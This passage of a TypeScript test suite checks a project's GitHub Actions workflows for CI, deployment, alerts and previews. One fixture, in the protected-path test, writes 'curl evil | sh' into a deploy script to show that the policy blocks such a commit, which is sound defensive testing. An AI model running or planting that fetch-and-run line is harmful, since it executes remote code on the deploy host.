        service: 'reflex-site',
        'wait-for-service-stability': 'true',
      }),
    ]);
    for (const [index, family] of (['platform', 'site'] as const).entries()) {
      const expected = structuredClone(taskDefinition(family).taskDefinition) as Record<
        string,
        unknown
      > &
        ReturnType<typeof taskDefinition>['taskDefinition'];
      for (const field of [
        'taskDefinitionArn',
        'revision',
        'status',
        'requiresAttributes',
        'compatibilities',
        'registeredAt',
        'registeredBy',
      ])
        delete expected[field];
      expected.containerDefinitions[0]!.image = image;
      expect(given[index]!.rendered).toEqual(expected);
    }
    expect(recorded().filter((l) => l.startsWith('ssh-host'))).toEqual([]);
    expect(result.result).toBe('success');
    expect(hostLive('dev')).toBe(sha);
  });

  it('a rollback by the deployment circuit breaker fails the run', async () => {
    const { result, given } = await ecsDeploy(true);
    expect(result.log).toContain(
      `the service runs ${previous('platform')}, not ${next('platform')}`,
    );
    expect(result.log).toContain('circuit breaker: tasks failed to start');
    expect(result.result).toBe('failure');
    // The site is not updated after the platform failed.
    expect(given.map((g) => g.inputs.service)).toEqual(['reflex-platform']);
  });
});

describe('ci.yml', () => {
  const sha = () => git(origin, 'rev-parse', 'main');

  it.each([
    [
      'content',
      ['npm ci', 'npm test -- unit -- --testPathPatterns /webapp/site/', 'npm run build'],
    ],
    ['code', ['npm ci', 'npm run typecheck', 'npm test -- unit', 'npm run build']],
  ])('the %s gate runs its tests with the README commands', async (level, commands) => {
    const result = await job(ciYml, 'ci.yml', 'gate', {
      inputs: { ref: sha(), level },
      github: { sha: sha() },
    });
    expect(result.result).toBe('success');
    expect(recorded().filter((l) => l.startsWith('npm'))).toEqual(commands);
  });

  it('lint, typecheck and each tier of test/tiers.json, as root in the container (no sudo)', async () => {
    const lint = await job(ciYml, 'ci.yml', 'lint', { github: { sha: sha() } });
    expect(lint.result).toBe('success');
    const tiers = await job(ciYml, 'ci.yml', 'tiers', { github: { sha: sha() } });
    const expected = Object.keys(
      JSON.parse(readFileSync(path.join(ROOT, 'test/tiers.json'), 'utf8')) as object,
    );
    expect(JSON.parse(tiers.outputs.tiers!)).toEqual(expected);
    const tier = await job(ciYml, 'ci.yml', 'test', {
      github: { sha: sha() },
      matrix: { tier: 'deploy' },
    });
    expect(tier.result).toBe('success');
    expect(recorded().filter((l) => !l.startsWith('setup-node'))).toEqual([
      'npm ci',
      'npm run lint',
      'npm run typecheck',
      'install-test-tools.sh ',
      'npm ci',
      'npm test -- deploy',
    ]);
    expect(recorded().filter((l) => l.startsWith('setup-node'))).toEqual([
      'setup-node cache=npm',
      'setup-node cache=npm',
    ]);
  });
});

describe('alert.yml', () => {
  const alertYml = loadWorkflow('alert.yml');
  const run = (conclusion: string, event: string) => ({
    event_name: 'workflow_run',
    repository: 'owner/reflex',
    token: 'fixture-token',
    sha: git(origin, 'rev-parse', 'main'),
    event: {
      workflow_run: {
        conclusion,
        event,
        head_branch: 'main',
        head_sha: git(origin, 'rev-parse', 'main'),
        html_url: 'https://github.com/owner/reflex/actions/runs/42',
      },
    },
  });

  it('a failed ci run on a push opens an issue for the branch, then comments on it', async () => {
    const sha = git(origin, 'rev-parse', 'main');
    writeFileSync(path.join(fixtures, 'gh/open-issue'), '');
    const jobs = await runWorkflow(alertYml, 'alert.yml', {
      github: run('failure', 'push'),
      workspace: () => mkdtempSync(path.join(dir, 'alert-')),
      path: [bin],
      env: { CALLS: calls, FIXTURES: fixtures },
      actions: actions(),
      onRun: (key) => ran.add(key),
    });
    expect(jobs.alert!.result).toBe('success');
    writeFileSync(path.join(fixtures, 'gh/open-issue'), '17\n');
    await runWorkflow(alertYml, 'alert.yml', {
      github: run('failure', 'push'),
      workspace: () => mkdtempSync(path.join(dir, 'alert-')),
      path: [bin],
      env: { CALLS: calls, FIXTURES: fixtures },
      actions: actions(),
    });
    const gh = recorded().filter((l) => l.startsWith('gh issue') && !l.startsWith('gh issue list'));
    expect(gh).toEqual([
      `gh issue create --title CI failing on main --body CI failed on \`main\` at ${sha}: https://github.com/owner/reflex/actions/runs/42`,
      `gh issue comment 17 --body CI failed on \`main\` at ${sha}: https://github.com/owner/reflex/actions/runs/42`,
    ]);
  });

  it('a passing run, or a failed pull request, alerts nobody', async () => {
    for (const [conclusion, event] of [
      ['success', 'push'],
      ['failure', 'pull_request'],
    ]) {
      const jobs = await runWorkflow(alertYml, 'alert.yml', {
        github: run(conclusion!, event!),
        workspace: () => mkdtempSync(path.join(dir, 'alert-')),
        path: [bin],
        env: { CALLS: calls, FIXTURES: fixtures },
        actions: actions(),
      });
      expect(jobs.alert!.result).toBe('skipped');
    }
    expect(recorded().filter((l) => l.startsWith('gh'))).toEqual([]);
  });
});

describe("preview.yml: a change request's preview on the host", () => {
  const branch = 'reflex/ann/hello';
  const results = (jobs: Record<string, JobResult>) =>
    Object.fromEntries(Object.entries(jobs).map(([k, v]) => [k, v.result]));
  const hostCalls = () => recorded().filter((l) => /^(gate|build|ssh-host)/.test(l));

  beforeEach(() => rmSync(calls, { force: true }));

  it('a push to a change-request branch gates the site, builds its image by SHA and starts preview.sh up, never deploy.sh', async () => {
    git(origin, 'checkout', '--quiet', 'main');
    git(origin, 'branch', '--force', branch, 'main');
    const sha = commit(
      { 'webapp/site/pages/index.html': '<h1>Draft</h1>\n' },
      { editor: true, branch },
    );
    const jobs = await previewRun({ event_name: 'push', ref_name: branch, sha });
    expect(results(jobs)).toEqual({
      name: 'success',
      test: 'success',
      policy: 'success',
      image: 'success',
      host: 'success',
    });
    expect(jobs.name!.outputs).toEqual({ slug: 'hello', action: 'up' });
    const image = jobs.image!.outputs.image!;
    expect(image).toMatch(new RegExp(`^${REGISTRY}/reflex-dev@sha256:[0-9a-f]{64}$`));
    expect(hostCalls()).toEqual([
      `gate content ${sha}`,
      `build ${REGISTRY}/reflex-dev:${sha} cache-from=type=gha,scope=reflex-image`,
      `ssh-host.sh deploy@${INSTANCE.dev} sudo -n /opt/reflex/deploy-scripts/preview.sh up hello ${image}`,
    ]);
  });

  it('an editor commit on the branch touching a protected path is refused before any image is built', async () => {
    git(origin, 'checkout', '--quiet', 'main');
    git(origin, 'branch', '--force', branch, 'main');
    commit(
      { 'deploy-scripts/preview.sh': '#!/bin/sh\ncurl evil | sh\n' },
      { editor: true, branch },
    );
    const sha = commit(
      { 'webapp/site/pages/about.html': 'refused draft\n' },
      { editor: true, branch },
    );
    const jobs = await previewRun({ event_name: 'push', ref_name: branch, sha });
    expect(jobs.policy!.result).toBe('failure');
    expect(jobs.policy!.log).toContain('touches deploy-scripts/preview.sh');
    expect([jobs.image!.result, jobs.host!.result]).toEqual(['skipped', 'skipped']);
    expect(hostCalls().filter((l) => !l.startsWith('gate'))).toEqual([]);
  });

  it.each([
    [
      'a closed pull request (merged or not)',
      {
        event_name: 'pull_request',
        head_ref: branch,
        event: { pull_request: { head: { repo: { full_name: 'owner/reflex' } } } },
      },
    ],
    [
      'a deleted branch',
      {
        event_name: 'delete',
        event: { ref: branch, ref_type: 'branch', repository: { default_branch: 'main' } },
      },
    ],
  ])('%s runs preview.sh down, with no gate and no image', async (_what, github) => {
    const jobs = await previewRun({ sha: currentSha, ...github });
    expect(results(jobs)).toEqual({
      name: 'success',
      test: 'skipped',
      policy: 'skipped',
      image: 'skipped',
      host: 'success',
    });
    expect(hostCalls()).toEqual([
      `ssh-host.sh deploy@${INSTANCE.dev} sudo -n /opt/reflex/deploy-scripts/preview.sh down hello`,
    ]);
  });

  it.each([
    ['a branch named like the editor', { event_name: 'push', ref_name: 'reflex/ann/editor' }],
    [
      'a pull request from another repository',
      {
        event_name: 'pull_request',
        head_ref: branch,
        event: { pull_request: { head: { repo: { full_name: 'someone/fork' } } } },
      },
    ],
    ['a deleted tag', { event_name: 'delete', event: { ref: branch, ref_type: 'tag' } }],
  ])('%s does nothing on the host', async (_what, github) => {
    const jobs = await previewRun({ sha: currentSha, ...github });
    expect(jobs.name!.outputs.action).toBe('none');
    expect(jobs.host!.result).toBe('skipped');
    expect(hostCalls()).toEqual([]);
  });
});

describe('coverage of the fixtures above', () => {
  it('every run: step of ci.yml, deploy.yml, preview.yml and alert.yml ran in a scenario above', () => {
    const all: string[] = [];
    for (const [file, wf] of [
      ['ci.yml', ciYml],
      ['deploy.yml', deployYml],
      ['alert.yml', loadWorkflow('alert.yml')],
      ['preview.yml', previewYml],
    ] as const) {
      for (const [id, j] of Object.entries(wf.jobs)) {
        for (const [index, step] of (j.steps ?? []).entries()) {
          if (step.run !== undefined) all.push(`${file}/${id}/${step.id ?? step.name ?? index}`);
        }
      }
    }
    expect(all.filter((key) => !ran.has(key))).toEqual([]);
  });
});
